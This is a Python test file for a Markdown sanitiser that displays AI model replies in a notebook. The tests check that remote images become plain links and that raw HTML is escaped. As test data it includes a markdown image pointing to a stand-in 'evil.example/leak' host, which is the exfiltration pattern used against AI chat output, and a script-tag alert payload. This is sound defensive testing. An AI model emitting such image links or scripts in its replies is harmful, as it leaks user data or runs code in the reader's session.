"""%%oci shows model replies as Markdown in a trusted output: no raw HTML, no remote image."""

from __future__ import annotations

from oci_jupyter.safe_markdown import safe_markdown


def test_an_image_becomes_a_link_and_loads_nothing() -> None:
    reply = "Done. ![chart](https://evil.example/leak?q=1) and ![x][ref]\n\n[ref]: http://e/x"
    shown = safe_markdown(reply)
    assert "![" not in shown
    assert "[chart](https://evil.example/leak?q=1)" in shown
    assert "[x][ref]" in shown


def test_raw_html_is_shown_as_text() -> None:
    reply = '<script>alert(1)</script><img src="http://e/p.png"><iframe src="http://e">'
    shown = safe_markdown(reply)
    assert "<" not in shown
    assert shown.startswith("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img")


def test_code_is_left_as_it_is() -> None:
    reply = "Use `a < b` here:\n\n```python\nprint('<b>' if a < b else '![x](y)')\n```\nok <i>"
    shown = safe_markdown(reply)
    assert "`a < b`" in shown
    assert "print('<b>' if a < b else '![x](y)')" in shown
    assert shown.endswith("ok &lt;i&gt;")


def test_an_unclosed_code_block_stays_code() -> None:
    assert safe_markdown("Here:\n```python\nx = '<b>'") == "Here:\n```python\nx = '<b>'"


def test_plain_text_is_unchanged() -> None:
    assert safe_markdown("The total is 6.") == "The total is 6."
    assert safe_markdown("") == ""
